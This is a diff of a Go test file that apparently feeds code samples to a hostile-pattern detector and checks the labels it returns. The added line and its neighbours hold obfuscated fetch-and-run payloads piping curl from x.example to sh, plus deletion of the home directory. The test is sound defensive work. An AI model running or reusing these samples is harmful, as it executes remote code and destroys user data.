@@ -43,6 +43,7 @@ func TestPython(t *testing.T) {
 		{"import requests\ncode = requests.get('https://x.example/a.py').text\nexec(code)\n", "fetch-exec"},
 		{"import base64\nexec(base64.b64decode('" + packed + "'))\n", "decode-exec,shell:pipe-to-shell"},
 		{"m = __import__('o' + 's')\nf = getattr(m, 'sys' + 'tem')\nf('\\x63\\x75\\x72\\x6c https://x.example/i.sh|sh')\n", "obfuscated,shell:pipe-to-shell"},
+		{"const run = globalThis['ev' + 'al'];\nrun(Buffer.from('6375726c2068747470733a2f2f782e6578616d706c652f692e73687c7368', 'hex').toString());\n", "decode-exec,shell:pipe-to-shell"},
 		{"import os, shutil\nT = [os.path.expanduser('~'), '/tmp']\nfor t in T:\n    shutil.rmtree(t)\n", "destructive"},
 		{"import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/app'))\n", ""},
 		{"import subprocess\nsubprocess.run(['ls', '-l'])\n", ""},
